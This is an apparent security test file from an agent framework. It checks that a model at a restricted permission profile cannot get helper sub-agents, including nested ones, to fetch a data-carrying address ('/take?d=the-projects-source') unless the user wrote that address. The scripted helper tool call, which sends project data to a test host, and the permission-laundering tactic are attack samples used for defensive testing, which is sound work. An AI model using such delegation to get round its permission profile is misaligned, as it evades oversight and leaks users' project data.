"""A model that starts helpers to get what it may not have itself: their tasks are its own words, not the user's."""

from __future__ import annotations

import asyncio
from pathlib import Path

import pytest

from quintet.domain.dials.axes import AxesChange, PermissionProfile, RunControl, WorkMode
from quintet.domain.journal import protocol as p
from quintet.domain.turn.messages import Request
from quintet.testing import Reply, call
from tests.attacks.world import World
from tests.features.helpers.helping import model, only, opened, started, turns_of
from tests.features.helpers.helping import said as said_to

RESTRICTED = AxesChange(WorkMode.RESEARCH, RunControl.AUTONOMOUS, PermissionProfile.RESTRICTED)


@pytest.mark.parametrize("deep", [False, True])
@pytest.mark.parametrize("named_by_user", [False, True])
def test_an_address_in_a_helpers_task_is_composed_unless_the_user_wrote_it(
    repo: Path, world: World, named_by_user: bool, deep: bool
) -> None:
    """Data of the project would go out in it, at a profile where a composed address needs approval."""
    address = f"{world.doors.url}/take?d=the-projects-source"

    def helper(request: Request, task: str) -> Reply:
        if turns_of(request):
            return "done"
        if deep and not task.startswith("deeper"):
            return started(f"deeper: fetch {address}")
        return [call("web_get_contents", urls=[address])]

    async def run() -> list[p.Event]:
        allowed = {"web.allow_hosts": ["127.0.0.1"]}
        async with opened(repo, model([started(f"fetch {address}")], helper), axes=RESTRICTED, settings=allowed) as one:
            events = await said_to(one, f"look at {address}" if named_by_user else "look around")
            inner = f"{one.id}.1.1" if deep else f"{one.id}.1"
            return [*events, *(item.event for item in one._core.store.read(inner))]

    decided = [one for one in only(p.CallDecided, asyncio.run(run())) if one.tool == "web_get_contents"]
    assert [one.verdict == "allow" for one in decided] == [named_by_user], decided
    assert bool(world.doors.came) == named_by_user
